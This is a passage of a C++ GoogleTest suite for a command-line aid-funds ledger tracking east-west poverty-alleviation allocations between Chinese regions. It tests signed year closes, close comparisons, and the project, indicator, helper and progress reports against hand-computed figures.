  std::ofstream(trusted) << "# both finance bureaus\n"
                         << testing::ReadFile(keys + "/qingdao-finance.pub")
                         << testing::ReadFile(keys + "/dingxi-finance.pub");
  RunResult signed_by = Run({"sign", "--close", "2023", "--key", keys + "/qingdao-finance.key"});
  ASSERT_EQ(signed_by.exit_code, 0) << signed_by.err;
  EXPECT_THAT(signed_by.out, ::testing::HasSubstr("qingdao-finance signed the close of 2023"));
  EXPECT_EQ(Run({"sign", "--close", "2022", "--key", keys + "/qingdao-finance.key"}).exit_code, 3);
  RunResult checked = Run({"verify-close", "2023", "--trusted-keys", trusted});
  ASSERT_EQ(checked.exit_code, 0) << checked.err;
  EXPECT_THAT(checked.out, ::testing::HasSubstr("qingdao-finance: signed by event 9"));
  EXPECT_THAT(checked.out, ::testing::HasSubstr("valid, trusted"));
  EXPECT_THAT(checked.out, ::testing::HasSubstr("dingxi-finance: has not signed"));
  EXPECT_EQ(Run({"verify-close", "2022", "--trusted-keys", trusted}).exit_code, 2);

  MustRun({"sign", "--close", "2023", "--key", others + "/dingxi-finance.key"});
  RunResult impostor = Run({"verify-close", "2023", "--trusted-keys", trusted});
  EXPECT_EQ(impostor.exit_code, 4);
  EXPECT_THAT(impostor.out, ::testing::HasSubstr("NOT the trusted key of this name"));
  EXPECT_EQ(Run({"verify"}).exit_code, 0);

  RunResult exported = Run({"replay", "--format", "jsonl"});
  ASSERT_EQ(exported.exit_code, 0) << exported.err;
  EXPECT_THAT(exported.out, ::testing::HasSubstr("\"adjusts_closed\":2023"));
  const std::string export_file = dir_.Sub("export.jsonl"), copy = dir_.Sub("copy");
  std::ofstream(export_file) << exported.out;
  RunResult restored = RunAidledger({"restore", export_file, "--db", copy}, dir_.path());
  ASSERT_EQ(restored.exit_code, 0) << restored.err;
  EXPECT_EQ(RunAidledger({"verify", "--db", copy}, dir_.path()).exit_code, 0);
  EXPECT_EQ(RunAidledger({"verify-close", "2023", "--trusted-keys", trusted, "--db", copy},
                         dir_.path())
                .exit_code,
            4);
}

// --compare-close: the closed year now beside the year as closed, both
// rolled up today's tree, with the adjustments and the reversal between
// them listed, and a region moved since the close named.
TEST_F(CliTest, ACloseComparisonShowsEachRowsChangeAndWhatChangedIt) {
  AddBasics();
  MustRun({"region", "add", "--code", "621125", "--name", "渭源县", "--parent", "620000",
           "--date", "2016-01-01"});
  MustRun({"pair", "--helper", "370200", "--recipient", "621125", "--program", "east-west",
           "--since", "2021-01-01", "--date", "2021-01-01"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "1000",
           "--date", "2023-05-01"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "50",
           "--date", "2023-08-01", "--event-id", "dup"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621125", "--amount", "300",
           "--date", "2023-06-01"});
  MustRun({"close", "--year", "2023"});  // seals events 1..10
  const std::vector<std::string> compare = {"--format", "csv", "report", "regions",
                                            "--period", "year", "--from", "2023-01",
                                            "--to", "2023-12", "--metric", "allocated",
                                            "--compare-close"};
  // Nothing changed yet: every change is zero.
  RunResult unchanged = Run(compare);
  ASSERT_EQ(unchanged.exit_code, 0) << unchanged.err;
  EXPECT_THAT(unchanged.out, ::testing::HasSubstr(
                                 "621100,定西市,1,1050.00,1050.00,0.00,0.00,1050.00,1050.00,0.00,0.00\r\n"));
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "20",
           "--date", "2023-11-30", "--adjusts-closed", "2023", "--reason", "漏记一笔"});
  MustRun({"reverse", "--target", "dup", "--reason", "重复录入", "--date", "2023-12-20",
           "--adjusts-closed", "2023"});
  MustRun({"region", "amend", "--code", "621125", "--parent", "621100", "--reason", "上级录错",
           "--date", "2024-01-01"});

  RunResult csv = Run(compare);
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  EXPECT_THAT(csv.out, ::testing::HasSubstr(
                           "2023_allocated_yuan,2023_allocated_as_closed_yuan,"
                           "2023_allocated_change_yuan,2023_allocated_change_percent,"));
  // 定西市 now holds 渭源县: 1,020 + 300 now against 1,050 + 300 sealed.
  EXPECT_THAT(csv.out, ::testing::HasSubstr(
                           "621100,定西市,1,1320.00,1350.00,-30.00,-2.22,1320.00,1350.00,-30.00,-2.22\r\n"));
  EXPECT_THAT(csv.out, ::testing::HasSubstr("621125,渭源县,2,300.00,300.00,0.00,0.00,"));
  EXPECT_THAT(csv.out, ::testing::HasSubstr(",合计,0,1320.00,1350.00,-30.00,-2.22,"));

  std::vector<std::string> table = compare;
  table[1] = "table";
  RunResult shown = Run(table);
  ASSERT_EQ(shown.exit_code, 0) << shown.err;
  EXPECT_THAT(shown.out, ::testing::HasSubstr("拨付结账数"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("结账数：2023年度结账时（seq 10）"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("结账后变更上级：621125 渭源县　原上级 620000，现上级 621100"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("2023年度　seq 12　2023-11-30　"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("原因：漏记一笔"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("2023年度　seq 13　2023-12-20　"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("原因：重复录入"));

  std::vector<std::string> json = compare;
  json[1] = "json";
  RunResult structured = Run(json);
  ASSERT_EQ(structured.exit_code, 0) << structured.err;
  EXPECT_THAT(structured.out, ::testing::HasSubstr("\"compare_close\":2023"));
  EXPECT_THAT(structured.out, ::testing::HasSubstr("\"closed_at\":{\"seq\":\"10\""));
  EXPECT_THAT(structured.out,
              ::testing::HasSubstr("\"moved_since_close\":[{\"code\":\"621125\",\"name\":"
                                   "\"渭源县\",\"parent_code_then\":\"620000\","
                                   "\"parent_code_now\":\"621100\"}]"));

  // Refused: another comparison, --as-closed, --as-of, two years, a year
  // not closed, a point before the close.
  for (const std::vector<std::string>& extra : std::vector<std::vector<std::string>>{
           {"--compare", "previous-year"},
           {"--as-closed"},
           {"--as-of", "2025-01-01"},
           {"--at-seq", "9"}}) {
    std::vector<std::string> bad = compare;
    bad.insert(bad.end(), extra.begin(), extra.end());
    RunResult refused = Run(bad);
    EXPECT_EQ(refused.exit_code, 2) << absl::StrJoin(extra, " ") << ": " << refused.err;
    EXPECT_EQ(refused.out, "") << absl::StrJoin(extra, " ");
  }
  std::vector<std::string> two_years = compare;
  two_years[7] = "2022-01";
  EXPECT_EQ(Run(two_years).exit_code, 2);
  std::vector<std::string> open_year = compare;
  open_year[7] = "2024-01";
  open_year[9] = "2024-12";
  RunResult not_closed = Run(open_year);
  EXPECT_EQ(not_closed.exit_code, 2);
  EXPECT_THAT(not_closed.err, ::testing::HasSubstr("2024"));
}

// The projects report: the regions that hold projects as the tree holds
// them, each project below its region, with the budget, what was disbursed
// through the report's last month and 执行率. Figures computed by hand.
TEST_F(CliTest, AProjectsReportShowsEachProjectsMoneyBudgetAndExecutionRate) {
  AddBasics();
  MustRun({"region", "add", "--code", "621125", "--name", "渭源县", "--parent", "621100",
           "--date", "2016-01-01"});
  MustRun({"region", "add", "--code", "540000", "--name", "西藏自治区", "--date", "2016-01-01"});
  MustRun({"pair", "--helper", "370200", "--recipient", "621125", "--program", "east-west",
           "--since", "2021-01-01", "--date", "2021-01-01"});
  for (const std::vector<std::string>& project : std::vector<std::vector<std::string>>{
           {"DX-1", "621100", "定西一号", "1000"}, {"DX-2", "621100", "定西二号", "400"},
           {"WY-1", "621125", "渭源一号", "600"}, {"XZ-1", "540000", "西藏一号", "200"}}) {
    MustRun({"project", "add", "--project", project[0], "--region", project[1], "--name",
             project[2], "--category", "industry", "--budget", project[3], "--date",
             "2022-01-01"});
  }
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--project", "DX-1",
           "--amount", "500", "--date", "2022-11-01"});
  MustRun({"disburse", "--project", "DX-1", "--amount", "200", "--date", "2022-12-01"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--project", "DX-1",
           "--amount", "300", "--date", "2023-02-01"});
  MustRun({"disburse", "--project", "DX-1", "--amount", "300", "--date", "2023-05-01"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621125", "--project", "WY-1",
           "--amount", "600", "--date", "2023-07-01"});
  MustRun({"disburse", "--project", "WY-1", "--amount", "150", "--date", "2023-08-01"});
  MustRun({"invest", "--enterprise", "海尔", "--region", "621100", "--project", "DX-2",
           "--amount", "1000", "--date", "2023-09-01"});
  // After the report's last month: in no figure of it.
  MustRun({"disburse", "--project", "DX-1", "--amount", "100", "--date", "2024-01-15"});

  const std::vector<std::string> report = {"--format", "csv", "report", "projects", "--period",
                                           "year", "--from", "2023-01", "--to", "2023-12"};
  RunResult csv = Run(report);
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  EXPECT_THAT(csv.out, ::testing::HasSubstr(
                           "code,name,depth,2023_allocated_yuan,2023_disbursed_yuan,"
                           "2023_invested_yuan,total_allocated_yuan,total_disbursed_yuan,"
                           "total_invested_yuan,budget_yuan,disbursed_to_date_yuan,"
                           "execution_rate_percent\r\n"
                           "540000,西藏自治区,0,0.00,0.00,0.00,0.00,0.00,0.00,200.00,0.00,0.00\r\n"
                           "XZ-1,西藏一号,1,0.00,0.00,0.00,0.00,0.00,0.00,200.00,0.00,0.00\r\n"
                           "620000,甘肃省,0,900.00,450.00,1000.00,900.00,450.00,1000.00,"
                           "2000.00,650.00,32.50\r\n"
                           "621100,定西市,1,900.00,450.00,1000.00,900.00,450.00,1000.00,"
                           "2000.00,650.00,32.50\r\n"
                           "DX-1,定西一号,2,300.00,300.00,0.00,300.00,300.00,0.00,"
                           "1000.00,500.00,50.00\r\n"
                           "DX-2,定西二号,2,0.00,0.00,1000.00,0.00,0.00,1000.00,400.00,0.00,0.00\r\n"
                           "621125,渭源县,2,600.00,150.00,0.00,600.00,150.00,0.00,"
                           "600.00,150.00,25.00\r\n"
                           "WY-1,渭源一号,3,600.00,150.00,0.00,600.00,150.00,0.00,"
                           "600.00,150.00,25.00\r\n"
                           ",合计,0,900.00,450.00,1000.00,900.00,450.00,1000.00,"
                           "2200.00,650.00,29.55\r\n"));

  // The layout: its title, the 项目执行 group and what 执行率 is.
  std::vector<std::string> table = report;
  table[1] = "table";
  table.insert(table.end(), {"--region", "621100"});
  RunResult shown = Run(table);
  ASSERT_EQ(shown.exit_code, 0) << shown.err;
  EXPECT_THAT(shown.out, ::testing::HasSubstr("援助资金分项目报表"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("项目执行"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("执行率＝累计支出÷预算"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("32.50%"));
  EXPECT_THAT(shown.out, ::testing::Not(::testing::HasSubstr("西藏")));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("支出合计（大写）：人民币肆佰伍拾元整"));

  // Refused, writing nothing: sales (a sale names no project) and the
  // helper filters (a disbursement names no helper).
  for (const std::vector<std::string>& extra : std::vector<std::vector<std::string>>{
           {"--metric", "sales"}, {"--helper", "370200"}, {"--program", "east-west"}}) {
    std::vector<std::string> bad = report;
    bad.insert(bad.end(), extra.begin(), extra.end());
    RunResult refused = Run(bad);
    EXPECT_EQ(refused.exit_code, 2) << absl::StrJoin(extra, " ") << ": " << refused.err;
    EXPECT_EQ(refused.out, "") << absl::StrJoin(extra, " ");
  }
}

// The indicators report: every indicator of the table by period, money
// derived from the money events and in the report's unit, counts in their
// own, each breakdown below its indicator; a reversal counts in its own
// period; the filters keep figures from a helper's subtree or to a
// region's. Figures computed by hand.
TEST_F(CliTest, AnIndicatorsReportShowsEveryIndicatorByPeriod) {
  AddBasics();
  MustRun({"region", "add", "--code", "370211", "--name", "黄岛区", "--parent", "370200",
           "--date", "2016-01-01"});
  MustRun({"region", "add", "--code", "621125", "--name", "渭源县", "--parent", "621100",
           "--date", "2016-01-01"});
  MustRun({"indicator", "--helper", "370200", "--recipient", "621100", "--indicator",
           "rural_workers_employed", "--value", "80", "--date", "2022-06-01"});
  MustRun({"indicator", "--helper", "370200", "--recipient", "621100", "--indicator",
           "rural_workers_employed", "--value", "100", "--of-which",
           "poverty_alleviated_workers=40", "--date", "2023-02-10", "--event-id", "w1"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "1.5万",
           "--date", "2023-03-01"});
  MustRun({"indicator", "--helper", "370211", "--recipient", "621125", "--indicator",
           "rural_workers_employed", "--value", "50", "--of-which",
           "poverty_alleviated_workers=10", "--date", "2023-05-05"});
  MustRun({"indicator", "--helper", "370200", "--recipient", "621100", "--indicator",
           "party_cadres_sent", "--value", "3", "--date", "2023-08-01"});
  MustRun({"indicator", "--helper", "370200", "--recipient", "621125", "--indicator",
           "people_trained", "--value", "30", "--date", "2023-09-09"});
  MustRun({"allocate", "--helper", "370211", "--recipient", "621125", "--amount", "2,345.67",
           "--date", "2023-11-20"});
  MustRun({"sale", "--helper", "370200", "--region", "621100", "--amount", "1000", "--date",
           "2023-12-01"});
  MustRun({"sale", "--region", "621100", "--amount", "7", "--date", "2023-12-02"});  // no helper
  MustRun({"reverse", "--target", "w1", "--reason", "重复登记", "--date", "2024-01-05"});

  const std::vector<std::string> report = {"--format", "csv", "report", "indicators",
                                            "--period", "quarter", "--from", "2023-01",
                                            "--to", "2023-12"};
  RunResult csv = Run(report);
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  EXPECT_THAT(csv.out, ::testing::HasSubstr(
      "code,name,depth,unit,2023-Q1_value,2023-Q2_value,2023-Q3_value,2023-Q4_value,"
      "total_value\r\n"
      "fiscal_assistance,财政援助资金,0,yuan,15000.00,0.00,0.00,2345.67,17345.67\r\n"
      "enterprise_investment,引导企业投资,0,yuan,0.00,0.00,0.00,0.00,0.00\r\n"
      "consumption_sales,消费帮扶,0,yuan,0.00,0.00,0.00,1000.00,1000.00\r\n"
      "enterprises_introduced,引进企业,0,enterprises,0,0,0,0,0\r\n"
      "rural_workers_employed,劳务协作·帮助农村劳动力就业,0,people,100,50,0,0,150\r\n"
      "poverty_alleviated_workers,其中：脱贫劳动力,1,people,40,10,0,0,50\r\n"
      "party_cadres_sent,选派党政干部,0,people,0,0,3,0,3\r\n"
      "professionals_sent,选派专业技术人才,0,people,0,0,0,0,0\r\n"
      "people_trained,培训干部人才,0,person_times,0,0,30,0,30\r\n"));
  EXPECT_THAT(csv.out, ::testing::Not(::testing::HasSubstr("合计")));

  // The filters: from 黄岛区's subtree, or to 渭源县's.
  for (const auto& [flag, code, rows] : std::vector<std::tuple<std::string, std::string, std::string>>{
           {"--helper", "370211",
            "fiscal_assistance,财政援助资金,0,yuan,0.00,0.00,0.00,2345.67,2345.67\r\n"
            "enterprise_investment,引导企业投资,0,yuan,0.00,0.00,0.00,0.00,0.00\r\n"
            "consumption_sales,消费帮扶,0,yuan,0.00,0.00,0.00,0.00,0.00\r\n"
            "enterprises_introduced,引进企业,0,enterprises,0,0,0,0,0\r\n"
            "rural_workers_employed,劳务协作·帮助农村劳动力就业,0,people,0,50,0,0,50\r\n"
            "poverty_alleviated_workers,其中：脱贫劳动力,1,people,0,10,0,0,10\r\n"
            "party_cadres_sent,选派党政干部,0,people,0,0,0,0,0\r\n"
            "professionals_sent,选派专业技术人才,0,people,0,0,0,0,0\r\n"
            "people_trained,培训干部人才,0,person_times,0,0,0,0,0\r\n"},
           {"--region", "621125",
            "rural_workers_employed,劳务协作·帮助农村劳动力就业,0,people,0,50,0,0,50\r\n"
            "poverty_alleviated_workers,其中：脱贫劳动力,1,people,0,10,0,0,10\r\n"
            "party_cadres_sent,选派党政干部,0,people,0,0,0,0,0\r\n"
            "professionals_sent,选派专业技术人才,0,people,0,0,0,0,0\r\n"
            "people_trained,培训干部人才,0,person_times,0,0,30,0,30\r\n"}}) {
    std::vector<std::string> filtered = report;
    filtered.insert(filtered.end(), {flag, code});
    RunResult limited = Run(filtered);
    ASSERT_EQ(limited.exit_code, 0) << flag << ": " << limited.err;
    EXPECT_THAT(limited.out, ::testing::HasSubstr(rows)) << flag;
  }

  // By year, compared with the year before: w1's reversal counts in 2024.
  RunResult years = Run({"--format", "csv", "report", "indicators", "--period", "year",
                         "--from", "2023-01", "--to", "2024-12", "--compare", "previous-year"});
  ASSERT_EQ(years.exit_code, 0) << years.err;
  EXPECT_THAT(years.out, ::testing::HasSubstr(
      "rural_workers_employed,劳务协作·帮助农村劳动力就业,0,people,"
      "150,80,70,87.50,-100,150,-250,-166.67,50,230,-180,-78.26\r\n"
      "poverty_alleviated_workers,其中：脱贫劳动力,1,people,50,0,50,,-40,50,-90,-180.00,10,50,-40,"
      "-80.00\r\n"));

  // The page: its title, the unit column, 万元 rounded row by row, 大写
  // of each money indicator's total.
  std::vector<std::string> table = report;
  table[1] = "table";
  table.insert(table.end(), {"--unit", "wan"});
  RunResult shown = Run(table);
  ASSERT_EQ(shown.exit_code, 0) << shown.err;
  EXPECT_THAT(shown.out, ::testing::HasSubstr("帮扶指标完成情况表"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("金额单位：万元"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("计量单位"));
  EXPECT_THAT(shown.out, ::testing::ContainsRegex("财政援助资金 +万元 +1\\.50 +0\\.00 +0\\.00 +0\\.23 +1\\.73"));
  EXPECT_THAT(shown.out, ::testing::ContainsRegex("其中：脱贫劳动力 +人 +40 +10 +0 +0 +50"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr(
                             "财政援助资金合计（大写）：人民币壹万柒仟叁佰肆拾伍元陆角柒分（¥17,345.67）"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("消费帮扶合计（大写）：人民币壹仟元整"));
  EXPECT_THAT(shown.out, ::testing::Not(::testing::HasSubstr("劳动力就业合计（大写）")));

  // Refused, writing nothing: a program (an indicator names none), a metric.
  for (const std::vector<std::string>& extra : std::vector<std::vector<std::string>>{
           {"--program", "east-west"}, {"--metric", "allocated"}}) {
    std::vector<std::string> bad = report;
    bad.insert(bad.end(), extra.begin(), extra.end());
    RunResult refused = Run(bad);
    EXPECT_EQ(refused.exit_code, 2) << absl::StrJoin(extra, " ") << ": " << refused.err;
    EXPECT_EQ(refused.out, "") << absl::StrJoin(extra, " ");
  }
}

// The helpers report: each helper's money by program, helpers as the
// region tree holds them (黄岛区 below 青岛市 below 山东省), money from no
// helper last; the filters keep money from a helper's subtree, under a
// program, or to a region's subtree. Figures computed by hand.
TEST_F(CliTest, AHelpersReportShowsEachHelpersMoneyByProgram) {
  AddBasics();
  MustRun({"region", "add", "--code", "370211", "--name", "黄岛区", "--parent", "370200",
           "--date", "2016-01-01"});
  MustRun({"region", "add", "--code", "540000", "--name", "西藏自治区", "--date", "2016-01-01"});
  MustRun({"pair", "--helper", "370200", "--recipient", "540000", "--program", "counterpart",
           "--since", "2021-01-01", "--date", "2021-01-01"});
  MustRun({"pair", "--helper", "370211", "--recipient", "621100", "--program", "east-west",
           "--since", "2021-01-01", "--date", "2021-01-01"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "1000",
           "--date", "2023-02-10"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "540000", "--amount", "500",
           "--date", "2023-05-01"});
  MustRun({"allocate", "--helper", "370211", "--recipient", "621100", "--amount", "200",
           "--date", "2023-04-01"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "100",
           "--date", "2022-02-01"});
  MustRun({"sale", "--region", "621100", "--amount", "40", "--date", "2023-03-01"});
  MustRun({"sale", "--helper", "370200", "--region", "621100", "--amount", "60",
           "--date", "2023-08-01"});

  const std::vector<std::string> report = {"--format", "csv", "report", "helpers",
                                           "--period", "quarter", "--from", "2023-01",
                                           "--to", "2023-12"};
  RunResult csv = Run(report);
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  // No disbursed column: a disbursement names no helper.
  EXPECT_THAT(csv.out, ::testing::HasSubstr(
                           "code,name,depth,2023-Q1_allocated_yuan,2023-Q1_invested_yuan,"
                           "2023-Q1_sales_yuan,2023-Q2_allocated_yuan,"));
  EXPECT_THAT(csv.out, ::testing::Not(::testing::HasSubstr("disbursed")));
  // Quarters Q1..Q4 (allocated, invested, sales each), then the totals.
  EXPECT_THAT(csv.out, ::testing::HasSubstr(
                           "370000,山东省,0,1000.00,0.00,0.00,700.00,0.00,0.00,0.00,0.00,60.00,"
                           "0.00,0.00,0.00,1700.00,0.00,60.00\r\n"
                           "370200,青岛市,1,1000.00,0.00,0.00,700.00,0.00,0.00,0.00,0.00,60.00,"
                           "0.00,0.00,0.00,1700.00,0.00,60.00\r\n"
                           "east-west,东西部协作,2,1000.00,0.00,0.00,0.00,0.00,0.00,0.00,0.00,60.00,"
                           "0.00,0.00,0.00,1000.00,0.00,60.00\r\n"
                           "counterpart,对口支援,2,0.00,0.00,0.00,500.00,0.00,0.00,0.00,0.00,0.00,"
                           "0.00,0.00,0.00,500.00,0.00,0.00\r\n"
                           "370211,黄岛区,2,0.00,0.00,0.00,200.00,0.00,0.00,0.00,0.00,0.00,"
                           "0.00,0.00,0.00,200.00,0.00,0.00\r\n"
                           "east-west,东西部协作,3,0.00,0.00,0.00,200.00,0.00,0.00,0.00,0.00,0.00,"
                           "0.00,0.00,0.00,200.00,0.00,0.00\r\n"
                           ",未指明帮扶方,0,0.00,0.00,40.00,0.00,0.00,0.00,0.00,0.00,0.00,"
                           "0.00,0.00,0.00,0.00,0.00,40.00\r\n"
                           "unspecified,未指明帮扶类型,1,0.00,0.00,40.00,0.00,0.00,0.00,0.00,0.00,0.00,"
                           "0.00,0.00,0.00,0.00,0.00,40.00\r\n"
                           ",合计,0,1000.00,0.00,40.00,700.00,0.00,0.00,0.00,0.00,60.00,"
                           "0.00,0.00,0.00,1700.00,0.00,100.00\r\n"));

  // The Chinese layout: its own title and row header, 大写 of each total.
  std::vector<std::string> table = report;
  table[1] = "table";
  RunResult shown = Run(table);
  ASSERT_EQ(shown.exit_code, 0) << shown.err;
  EXPECT_THAT(shown.out, ::testing::HasSubstr("援助资金分帮扶方报表"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("帮扶方"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("拨付合计（大写）：人民币壹仟柒佰元整"));
  EXPECT_THAT(shown.out, ::testing::HasSubstr("消费帮扶合计（大写）：人民币壹佰元整"));

  // --helper: 黄岛区 alone, at the top; --compare previous-year counts the
  // 2022 allocation of 青岛市, not of 黄岛区 (no percent from nothing).
  RunResult one = Run({"--format", "csv", "report", "helpers", "--period", "year", "--from",
                       "2023-01", "--to", "2023-12", "--helper", "370211", "--metric",
                       "allocated", "--compare", "previous-year"});
  ASSERT_EQ(one.exit_code, 0) << one.err;
  EXPECT_THAT(one.out, ::testing::HasSubstr(
                           "370211,黄岛区,0,200.00,0.00,200.00,,200.00,0.00,200.00,\r\n"
                           "east-west,东西部协作,1,200.00,0.00,200.00,,200.00,0.00,200.00,\r\n"
                           ",合计,0,200.00,0.00,200.00,,"));
  RunResult qingdao = Run({"--format", "csv", "report", "helpers", "--period", "year", "--from",
                           "2023-01", "--to", "2023-12", "--helper", "370200", "--metric",
                           "allocated", "--compare", "previous-year"});
  ASSERT_EQ(qingdao.exit_code, 0) << qingdao.err;
  EXPECT_THAT(qingdao.out, ::testing::HasSubstr(",合计,0,1700.00,100.00,1600.00,1600.00,"));

  // --region on a helpers report: money to 甘肃省's subtree only, so no
  // counterpart row (that money went to 西藏).
  RunResult gansu = Run({"--format", "csv", "report", "helpers", "--period", "year", "--from",
                         "2023-01", "--to", "2023-12", "--region", "620000"});
  ASSERT_EQ(gansu.exit_code, 0) << gansu.err;
  EXPECT_THAT(gansu.out, ::testing::HasSubstr(",合计,0,1200.00,0.00,100.00,1200.00,0.00,100.00\r\n"));
  EXPECT_THAT(gansu.out, ::testing::Not(::testing::HasSubstr("对口支援")));

  // A regions report limited to a program, and to a helper.
  RunResult counterpart = Run({"--format", "csv", "report", "regions", "--period", "year",
                               "--from", "2023-01", "--to", "2023-12", "--program",
                               "counterpart", "--metric", "allocated"});
  ASSERT_EQ(counterpart.exit_code, 0) << counterpart.err;
  EXPECT_THAT(counterpart.out, ::testing::HasSubstr("540000,西藏自治区,0,500.00,500.00\r\n"));
  EXPECT_THAT(counterpart.out, ::testing::HasSubstr("621100,定西市,1,0.00,0.00\r\n"));
  EXPECT_THAT(counterpart.out, ::testing::HasSubstr(",合计,0,500.00,500.00\r\n"));
  table = {"report", "regions", "--period", "year", "--from", "2023-01", "--to", "2023-12",
           "--helper", "370211"};
  RunResult from_one = Run(table);
  ASSERT_EQ(from_one.exit_code, 0) << from_one.err;
  EXPECT_THAT(from_one.out, ::testing::HasSubstr("统计范围：帮扶方 370211 及其下级"));
  EXPECT_THAT(from_one.out, ::testing::HasSubstr("拨付合计（大写）：人民币贰佰元整"));

  // Refused, writing nothing: disbursed by helper, an unknown program or
  // helper.
  for (const std::vector<std::string>& extra : std::vector<std::vector<std::string>>{
           {"--metric", "disbursed"}, {"--program", "charity"}, {"--helper", "999999"}}) {
    std::vector<std::string> bad = report;
    bad.insert(bad.end(), extra.begin(), extra.end());
    RunResult refused = Run(bad);
    EXPECT_EQ(refused.exit_code, 2) << absl::StrJoin(extra, " ") << ": " << refused.err;
    EXPECT_EQ(refused.out, "") << absl::StrJoin(extra, " ");
    EXPECT_THAT(refused.err, ::testing::HasSubstr(extra[0])) << absl::StrJoin(extra, " ");
  }
  RunResult regions_disbursed = Run({"report", "regions", "--from", "2023-01", "--to", "2023-12",
                                     "--program", "east-west", "--metric", "disbursed"});
  EXPECT_EQ(regions_disbursed.exit_code, 2) << regions_disbursed.err;

  // --compare-close: an adjustment of the closed year shows in its
  // helper's program row.
  MustRun({"close", "--year", "2023"});
  MustRun({"allocate", "--helper", "370211", "--recipient", "621100", "--amount", "20",
           "--date", "2023-11-30", "--adjusts-closed", "2023", "--reason", "漏记一笔"});
  RunResult closed = Run({"--format", "csv", "report", "helpers", "--period", "year", "--from",
                          "2023-01", "--to", "2023-12", "--helper", "370211", "--metric",
                          "allocated", "--compare-close"});
  ASSERT_EQ(closed.exit_code, 0) << closed.err;
  EXPECT_THAT(closed.out, ::testing::HasSubstr(
                              "east-west,东西部协作,1,220.00,200.00,20.00,10.00,"));
}

TEST_F(CliTest, IndicatorsAndTargetsMakeTheProgressReport) {
  AddBasics();  // 5 events
  RunResult listed = Run({"indicators", "list"});
  ASSERT_EQ(listed.exit_code, 0) << listed.err;
  EXPECT_THAT(listed.out, ::testing::HasSubstr("rural_workers_employed"));
  EXPECT_THAT(listed.out, ::testing::HasSubstr("劳务协作·帮助农村劳动力就业"));
  MustRun({"indicator", "--helper", "370200", "--recipient", "621100", "--indicator",
           "rural_workers_employed", "--value", "531", "--of-which",
           "poverty_alleviated_workers=200", "--evidence-ref", "专列 2023-02-01", "--date",
           "2024-02-01", "--event-id", "train"});
  MustRun({"target", "--year", "2024", "--helper", "370200", "--recipient", "621100",
           "--indicator", "rural_workers_employed", "--value", "1000", "--reason", "2024年协议",
           "--date", "2024-01-10"});
  MustRun({"target", "--year", "2024", "--helper", "370200", "--recipient", "621100",
           "--indicator", "rural_workers_employed", "--value", "600", "--reason", "调整",
           "--date", "2024-07-01"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "1.5万",
           "--date", "2024-03-01"});
  EXPECT_THAT(Run({"log"}).out,
              ::testing::HasSubstr("370200 -> 621100 rural workers helped into jobs 531 people "
                                   "(of which workers lifted out of poverty 200 people)"));
  const std::string at_head = Run({"progress", "--year", "2024", "--format", "json"}).out;
  // 531 of 600 is 88.5%; the allocation of 15,000 yuan has no target.
  EXPECT_THAT(at_head, ::testing::HasSubstr(
      "\"rows\":[{\"year\":2024,\"helper_code\":\"370200\",\"recipient_code\":\"621100\","
      "\"indicator\":\"fiscal_assistance\",\"unit\":\"fen\",\"actual\":\"1500000\","
      "\"target_history\":[]},"
      "{\"year\":2024,\"helper_code\":\"370200\",\"recipient_code\":\"621100\","
      "\"indicator\":\"rural_workers_employed\",\"unit\":\"people\",\"target\":\"600\","
      "\"actual\":\"531\",\"completion_percent\":88.5,\"target_history\":["
      "{\"value\":\"1000\",\"effective_date\":\"2024-01-10\",\"seq\":\"7\",\"reason\":\"2024年协议\"},"
      "{\"value\":\"600\",\"effective_date\":\"2024-07-01\",\"seq\":\"8\",\"reason\":\"调整\"}]},"
      "{\"year\":2024,\"helper_code\":\"370200\",\"recipient_code\":\"621100\","
      "\"indicator\":\"poverty_alleviated_workers\",\"unit\":\"people\",\"actual\":\"200\","
      "\"target_history\":[]}]}"));
  EXPECT_THAT(at_head, ::testing::StartsWith("{\"at\":{\"seq\":\"9\""));
  // As of June: the first target, 53.1%; at seq 6: no target yet.
  EXPECT_THAT(Run({"progress", "--year", "2024", "--format", "json", "--as-of", "2024-06-30"}).out,
              ::testing::HasSubstr("\"target\":\"1000\",\"actual\":\"531\","
                                   "\"completion_percent\":53.1"));
  const std::string at_six =
      Run({"progress", "--year", "2024", "--format", "csv", "--at-seq", "6"}).out;
  EXPECT_EQ(at_six,
            "\xEF\xBB\xBF"
            "year,helper_code,helper_name,recipient_code,recipient_name,indicator,unit,target,"
            "actual,completion_percent,target_history\r\n"
            "2024,370200,青岛市,621100,定西市,rural_workers_employed,people,,531,,\r\n"
            "2024,370200,青岛市,621100,定西市,poverty_alleviated_workers,people,,200,,\r\n");
  // What was known at a time: everything recorded by tomorrow is the head.
  const std::string known = Run({"progress", "--year", "2024", "--format", "json",
                                 "--known-at", "2199-01-01"}).out;
  EXPECT_EQ(known.substr(known.find("\"rows\"")), at_head.substr(at_head.find("\"rows\"")));
